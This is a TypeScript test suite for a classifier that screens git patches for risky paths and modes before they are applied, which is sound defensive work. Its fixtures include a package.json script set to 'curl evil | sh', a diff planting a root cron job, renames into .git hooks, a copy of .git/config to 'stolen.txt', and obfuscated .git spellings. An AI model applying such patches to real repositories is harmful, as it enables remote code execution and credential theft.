import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parsePatchText } from '../../../src/core/patch/patchParser';
import type { RiskKind } from '../../../src/core/patch/patchRisk';
import { classifyPatch, classifyPath, defaultSelection, foldSegment } from '../../../src/core/patch/patchRisk';
import { riskReasonText } from '../../../src/core/patch/riskText';
import { english } from '../../../src/core/protocol/l10n';

function kinds(path: string): RiskKind[] {
  return classifyPath(path).map((f) => f.kind);
}

function addFile(path: string, mode = '100644', body = '+x'): string {
  return `diff --git a/${path} b/${path}\nnew file mode ${mode}\nindex 0000000..1111111\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n${body}\n`;
}

describe('risk classifier: paths', () => {
  it("refuses '..' traversal in every spelling", () => {
    for (const p of [
      '../x',
      'a/../../x',
      'a/..',
      '..\\x',
      'a\\..\\..\\x',
      'a/../b',
      '．．/x',
      'a/.. /x',
      'a/.../x',
      'a/\u2024\u2024/x',
    ]) {
      assert.ok(kinds(p).includes('traversal'), `${p}: ${kinds(p).join(',')}`);
    }
  });

  it('refuses absolute paths (POSIX, drive letters, UNC, backslash)', () => {
    for (const p of [
      '/etc/passwd',
      '//server/share/x',
      'C:\\Windows\\x',
      'c:/x',
      '\\\\server\\share',
      '\\x',
      'Z:x',
      '／etc/passwd',
    ]) {
      assert.ok(kinds(p).includes('absolute-path'), `${p}: ${kinds(p).join(',')}`);
    }
  });

  it('refuses anything under .git in any spelling', () => {
    const spellings = [
      '.git/config',
      '.git/hooks/pre-commit',
      '.GIT/config',
      '.Git/hooks/post-checkout',
      'sub/.git/config',
      'GIT~1/config',
      'git~2/hooks/x',
      '.git./config',
      '.git /config',
      '.git. . /config',
      '.git\\hooks\\pre-commit',
      'sub\\.git\\config',
      '．ｇｉｔ/config',
      '.g\u200bit/config',
      '.git\u200d/config',
      '\ufeff.git/config',
      '.gi\u200ct/hooks/x',
      '.git::$INDEX_ALLOCATION/config',
      '.\u0067\u0069\u0074/config',
      '.ＧＩＴ/hooks/x',
    ];
    for (const p of spellings) assert.ok(kinds(p).includes('git-dir'), `${JSON.stringify(p)}: ${kinds(p).join(',')}`);
  });

  it('refuses workflow, editor, dev-container and direnv files in several spellings', () => {
    const cases: Record<string, RiskKind> = {
      '.github/workflows/ci.yml': 'sensitive-file',
      '.GitHub/Workflows/release.yaml': 'sensitive-file',
      '.github\\workflows\\x.yml': 'sensitive-file',
      '.github/actions/setup/action.yml': 'sensitive-file',
      '.vscode/tasks.json': 'sensitive-file',
      '.VSCode/settings.json': 'sensitive-file',
      'pkg/.vscode/launch.json': 'sensitive-file',
      '.vscode./tasks.json': 'sensitive-file',
      '.devcontainer/devcontainer.json': 'sensitive-file',
      '.devcontainer.json': 'sensitive-file',
      '.envrc': 'sensitive-file',
      '.ENVRC': 'sensitive-file',
      'sub/.envrc': 'sensitive-file',
      '.gitattributes': 'sensitive-file',
      'docs/.gitattributes': 'sensitive-file',
      '.GitAttributes ': 'sensitive-file',
      '.gitmodules': 'sensitive-file',
      '.gitmodules.': 'sensitive-file',
      '.husky/pre-commit': 'hook-file',
      '.HUSKY/pre-push': 'hook-file',
      '.githooks/commit-msg': 'hook-file',
      '.pre-commit-config.yaml': 'hook-file',
      'lefthook.yml': 'hook-file',
    };
    for (const [p, kind] of Object.entries(cases)) assert.ok(kinds(p).includes(kind), `${p}: ${kinds(p).join(',')}`);
  });

  it("refuses Windows 8.3 short names of every protected folder and file, as the long name's own class", () => {
    const cases: Record<string, RiskKind> = {
      'GITHUB~1/workflows/ci.yml': 'sensitive-file',
      'github~2/WORKFL~1/ci.yml': 'sensitive-file',
      '.github/WORKFL~1/release.yml': 'sensitive-file',
      'GITHUB~1/actions/setup/action.yml': 'sensitive-file',
      'GI7A3F~1/workflows/ci.yml': 'sensitive-file',
      'VSCODE~1/tasks.json': 'sensitive-file',
      'pkg/vscode~3/launch.json': 'sensitive-file',
      'VSCODE~1./settings.json': 'sensitive-file',
      'DEVCON~1/devcontainer.json': 'sensitive-file',
      'DEVCON~1.JSO': 'sensitive-file',
      'ENVRC~1': 'sensitive-file',
      'GITATT~1': 'sensitive-file',
      'GITMOD~1': 'sensitive-file',
      'HUSKY~1/pre-commit': 'hook-file',
      'GITHOO~1/commit-msg': 'hook-file',
      'GIT-HO~1/pre-push': 'hook-file',
      'HOOKS~1/pre-push': 'hook-file',
      'PRE-CO~1.YAM': 'hook-file',
      'LEFTHO~1.YML': 'hook-file',
      'HUSKYR~1.JSO': 'hook-file',
      'GIT~1/config': 'git-dir',
      'sub/GIT~12/hooks/pre-commit': 'git-dir',
    };
    for (const [p, kind] of Object.entries(cases)) {
      const found = classifyPath(p).filter((f) => f.kind === kind);
      assert.equal(found.length, 1, `${p}: ${kinds(p).join(',')}`);
    }
    // The reason is the long name's own text.
    assert.deepEqual(
      classifyPath('VSCODE~1/tasks.json').map((f) => riskReasonText(f.message, english)),
      classifyPath('.vscode/tasks.json').map((f) => riskReasonText(f.message, english)),
    );
  });

  it('refuses Windows device names in any case, with any extension and trailing dots or spaces', () => {
    const names = ['NUL', 'CON', 'PRN', 'AUX', 'CONIN$', 'CONOUT$'];
    for (let i = 1; i <= 9; i++) names.push(`COM${i}`, `LPT${i}`);
    for (const name of names) {
      for (const p of [
        name,
        name.toLowerCase(),
        `src/${name[0]}${name.slice(1).toLowerCase()}.txt`,
        `${name}.tar.gz`,
        `${name}.`,
        `${name} `,
        `${name} .log`,
        `${name}:stream`,
        `dir/${name}/x.ts`,
      ]) {
        const found = classifyPath(p).filter((f) => f.kind === 'invalid-path');
        assert.equal(found.length, 1, `${p}: ${kinds(p).join(',')}`);
        assert.match(
          riskReasonText(found[0].message, english),
          new RegExp(`uses ${name.replace('$', '\\$')}, a device name on Windows`),
        );
      }
    }
    assert.ok(kinds('COM\u00b9.txt').includes('invalid-path'), 'COM¹ is COM1 to Windows');
    assert.equal(classifyPatch(parsePatchText(addFile('docs/nul.md'))).refusedFiles.size, 1);
  });

  it('accepts ordinary paths, including look-alikes that are not special', () => {
    for (const p of [
      'src/index.ts',
      '.gitignore',
      'src/git/client.ts',
      'docs/.github.md',
      'github/workflows/readme.md',
      'my.git.txt',
      'a/b.c/d',
      'vscode/settings.json',
      'envrc',
      'café.txt',
      '..foo',
      'foo..bar/x',
      'nullable.ts',
      'src/console/log.ts',
      'auxiliary/x',
      'com10.txt',
      'lpt.txt',
      'con-fig.json',
      'docs/GITHUB~1.md',
      'backup~1.txt',
      'GITHUB~1/README.md',
    ]) {
      assert.deepEqual(kinds(p), [], p);
    }
  });

  it('folds segments the way file systems compare them', () => {
    assert.equal(foldSegment('.GIT.'), '.git');
    assert.equal(foldSegment('．ｇｉｔ'), '.git');
    assert.equal(foldSegment('.g\u200bi\u200dt'), '.git');
    assert.equal(foldSegment('.git::$DATA'), '.git');
    assert.equal(foldSegment('.. '), '..');
  });
});

describe('risk classifier: patches', () => {
  function riskKinds(text: string): string[] {
    return classifyPatch(parsePatchText(text)).items.map((i) => `${i.severity}:${i.kind}`);
  }

  it('refuses symlinks (120000), in new files and mode changes', () => {
    assert.ok(riskKinds(addFile('link', '120000', '+/etc/passwd')).includes('refuse:symlink'));
    assert.ok(riskKinds('diff --git a/l b/l\nold mode 100644\nnew mode 120000\n').includes('refuse:symlink'));
  });

  it('refuses submodules (160000)', () => {
    assert.ok(
      riskKinds(
        'diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n',
      ).includes('refuse:submodule'),
    );
    assert.ok(
      riskKinds(
        'diff --git a/m b/m\nindex 1111111..2222222 160000\n--- a/m\n+++ b/m\n@@ -1 +1 @@\n-Subproject commit a\n+Subproject commit b\n',
      ).includes('refuse:submodule'),
    );
  });

  it('refuses mode changes to executable and new executable files, not the reverse', () => {
    assert.ok(
      riskKinds('diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n').includes('refuse:executable'),
    );
    assert.ok(riskKinds(addFile('tool', '100755')).includes('refuse:executable'));
    assert.ok(riskKinds('diff --git a/x b/x\nold mode 100644\nnew mode 100744\n').includes('refuse:executable'));
    assert.deepEqual(riskKinds('diff --git a/run.sh b/run.sh\nold mode 100755\nnew mode 100644\n'), []);
  });

  it('refuses binary patches (both forms)', () => {
    assert.ok(
      riskKinds(
        'diff --git a/a.png b/a.png\nindex 1111111..2222222 100644\nBinary files a/a.png and b/a.png differ\n',
      ).includes('refuse:binary'),
    );
    assert.ok(
      riskKinds(
        'diff --git a/a.bin b/a.bin\nnew file mode 100644\nindex 0000000..2222222\nGIT binary patch\nliteral 3\nKcmZQzWMT#Y01f~E\n\nliteral 0\nHcmV?d00001\n\n',
      ).includes('refuse:binary'),
    );
  });

  it('refuses a rename whose source or target is unsafe', () => {
    assert.ok(
      riskKinds(
        'diff --git a/ok.txt b/.git/hooks/post-merge\nsimilarity index 100%\nrename from ok.txt\nrename to .git/hooks/post-merge\n',
      ).includes('refuse:git-dir'),
    );
    assert.ok(
      riskKinds(
        'diff --git a/.git/config b/stolen.txt\nsimilarity index 100%\ncopy from .git/config\ncopy to stolen.txt\n',
      ).includes('refuse:git-dir'),
    );
  });

  it('refuses traversal and absolute names written in diff headers', () => {
    assert.ok(riskKinds(addFile('../outside.txt')).includes('refuse:traversal'));
    assert.ok(
      riskKinds('--- a/x\n+++ b//etc/cron.d/job\n@@ -0,0 +1 @@\n+* * * * * root sh\n').includes('refuse:absolute-path'),
    );
  });

  it('flags (does not refuse) package.json scripts changes, exactly when the file is known', () => {
    const text =
      'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   }\n }\n';
    const report = classifyPatch(parsePatchText(text));
    assert.deepEqual(
      report.items.map((i) => `${i.severity}:${i.kind}`),
      ['flag:package-scripts'],
    );
    assert.equal(report.refusedFiles.size, 0);
    const before = '{\n  "scripts": {\n    "test": "node --test"\n  }\n}\n';
    const exact = classifyPatch(parsePatchText(text), { readText: () => before });
    assert.match(exact.items[0].reason, /\(test\)/);
    const depOnly =
      'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1,5 +1,5 @@\n {\n   "dependencies": {\n-    "x": "1.0.0"\n+    "x": "1.0.1"\n   }\n }\n';
    assert.deepEqual(
      classifyPatch(parsePatchText(depOnly), { readText: () => '{\n  "dependencies": {\n    "x": "1.0.0"\n  }\n}\n' })
        .items,
      [],
    );
    assert.deepEqual(classifyPatch(parsePatchText(depOnly)).items, []);
  });

  it('each refusal is an item of its own; the default selection leaves refused files out', () => {
    const text = addFile('.vscode/tasks.json') + addFile('src/ok.ts') + addFile('.git/hooks/pre-commit', '100755');
    const patch = parsePatchText(text);
    const report = classifyPatch(patch);
    assert.deepEqual(report.items.map((i) => i.id).sort(), [
      '.git/hooks/pre-commit:executable',
      '.git/hooks/pre-commit:git-dir',
      '.vscode/tasks.json:sensitive-file',
    ]);
    assert.deepEqual(defaultSelection(patch, report).files, ['src/ok.ts']);
    assert.deepEqual(defaultSelection(patch, report, ['.vscode/tasks.json:sensitive-file']).files, [
      '.vscode/tasks.json',
      'src/ok.ts',
    ]);
    // Overriding one of two refusals of a file is not enough.
    assert.deepEqual(defaultSelection(patch, report, ['.git/hooks/pre-commit:git-dir']).files, ['src/ok.ts']);
  });
});
